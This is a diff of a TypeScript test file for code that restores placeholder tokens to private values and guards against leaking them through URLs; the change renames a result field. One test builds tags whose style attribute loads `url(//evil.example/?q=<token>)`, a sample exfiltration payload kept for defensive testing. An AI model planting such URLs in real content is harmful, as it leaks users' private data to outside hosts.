@@ -12,13 +12,13 @@ const map = tokenMap({ [token]: original });
 
 /** Restores the text cut in two at every place outside of tokens; throws unless all give the same. */
 function restored(text: string): string {
-  const whole = restoreText(text, map).text;
+  const whole = restoreText(text, map).restored;
   const tokens = [...text.matchAll(/\[EMAIL-1\]/g)].map((match) => match.index);
   for (let cut = 0; cut <= text.length; cut += text.length > 1000 ? 97 : 1) {
     if (tokens.some((start) => cut > start && cut < start + token.length)) continue;
     const guard = new UrlGuard();
-    const first = restoreText(text.slice(0, cut), map, { guard }).text;
-    expect(first + restoreText(text.slice(cut), map, { guard }).text, `cut at ${cut}`).toBe(whole);
+    const first = restoreText(text.slice(0, cut), map, { guard }).restored;
+    expect(first + restoreText(text.slice(cut), map, { guard }).restored, `cut at ${cut}`).toBe(whole);
   }
   return whole;
 }
@@ -361,7 +361,7 @@ describe('what is put in for another token may be part of', () => {
       '\\[NAME-1\\]',
     ].map((spelling) => `<${spelling} style="a:url(/\\\\evil.example/?q=${token})">`),
   ])('a label, a list or a tag: %j', (text) => {
-    const { text: shown } = restoreText(text, values);
+    const { restored: shown } = restoreText(text, values);
     expect(shown).toBe(shownAs(text.replace(/<[^ ]+/, '<Ana')));
     const bytes = new TextEncoder().encode(text);
     expect(restoreStream('text', values, bytes)).toBe(shown);
@@ -374,7 +374,7 @@ describe('what is put in for another token may be part of', () => {
   });
 
   test('not a definition, if it was the label', () => {
-    expect(restoreText(`[NAME-1]: mail/${token}`, values).text).toBe(`Ana: mail/${original}`);
+    expect(restoreText(`[NAME-1]: mail/${token}`, values).restored).toBe(`Ana: mail/${original}`);
   });
 });
 
@@ -440,7 +440,7 @@ describe('is restored in JSON that is shown as it stands', () => {
 
 describe('hosts that are allowed', () => {
   const allowsHost = allowedHosts(['good.example']);
-  const shown = (text: string) => restoreText(text, map, { allowsHost }).text;
+  const shown = (text: string) => restoreText(text, map, { allowsHost }).restored;
 
   test.each([
     // Entities and escapes in the host.
